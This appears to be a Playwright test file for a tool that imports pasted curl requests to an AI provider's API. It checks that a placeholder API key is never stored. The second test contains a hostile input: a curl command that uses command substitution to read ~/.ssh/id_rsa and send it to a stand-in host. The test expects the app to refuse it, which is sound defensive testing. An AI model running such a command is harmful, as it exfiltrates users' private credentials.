// Issue 35: a raw provider request opened as a run (Open a request), its key never kept.
import { expect, test } from './fixtures/loupe-test';

const body = {
  model: 'claude-sonnet-4-5',
  max_tokens: 500,
  system: 'Be brief.',
  tools: [{ name: 'lookup', description: 'Look up.', input_schema: { type: 'object', properties: {} } }],
  messages: [
    { role: 'user', content: 'find it' },
    { role: 'assistant', content: [{ type: 'tool_use', id: 'toolu_1', name: 'lookup', input: { q: 'a' } }] },
    { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'toolu_1', content: 'found <b>it</b>' }] },
  ],
};
const curl = `curl https://api.anthropic.com/v1/messages -H 'x-api-key: sk-ant-api03-E2E-SECRET' --data-binary @- <<'JSON'\n${JSON.stringify(body, null, 2)}\nJSON\n`;
const response = JSON.stringify({
  type: 'message',
  content: [{ type: 'text', text: 'It is found.' }],
  stop_reason: 'end_turn',
  usage: { input_tokens: 20, output_tokens: 4 },
});

test('Open a request: a pasted curl and its response become rounds; the key is kept nowhere', async ({ page }) => {
  await page.goto('/');
  await page.getByRole('button', { name: 'Open a request', exact: true }).click();
  const dialog = page.getByRole('dialog', { name: 'Open a request' });
  await dialog.getByRole('textbox', { name: 'Request', exact: true }).fill(curl);
  await dialog.getByRole('textbox', { name: 'Response', exact: true }).fill(response);
  await dialog.getByRole('button', { name: 'Open', exact: true }).click();
  await expect(dialog).toBeHidden();
  const timeline = page.getByRole('region', { name: 'Timeline' });
  await expect(timeline.getByRole('article', { name: 'Round 1' })).toContainText('lookup');
  await expect(timeline.getByRole('article', { name: 'Round 2' })).toContainText('It is found.');
  // Nothing the page keeps holds the key: local storage and every IndexedDB record.
  const kept = await page.evaluate(async () => {
    const texts: string[] = [JSON.stringify({ ...localStorage })];
    for (const info of await indexedDB.databases()) {
      const db = await new Promise<IDBDatabase>((resolve, reject) => {
        const request = indexedDB.open(info.name!);
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(new Error('open failed'));
      });
      for (const store of Array.from(db.objectStoreNames)) {
        const all = await new Promise<unknown[]>((resolve) => {
          const request = db.transaction(store).objectStore(store).getAll();
          request.onsuccess = () => resolve(request.result as unknown[]);
        });
        texts.push(JSON.stringify(all));
      }
      db.close();
    }
    return texts.join('\n');
  });
  expect(kept).toContain('find it');
  expect(kept).not.toContain('E2E-SECRET');
});

test('Open a request: a curl with a shell trick is refused, naming it, and nothing opens', async ({ page }) => {
  await page.goto('/');
  await page.getByRole('button', { name: 'Open a request', exact: true }).click();
  const dialog = page.getByRole('dialog', { name: 'Open a request' });
  await dialog
    .getByRole('textbox', { name: 'Request', exact: true })
    .fill(`curl https://x/v1/messages -d "$(cat ~/.ssh/id_rsa)"`);
  await dialog.getByRole('button', { name: 'Open', exact: true }).click();
  await expect(page.getByRole('alert').filter({ hasText: 'was not imported' })).toContainText('command substitution');
  await expect(dialog).toBeVisible();
});
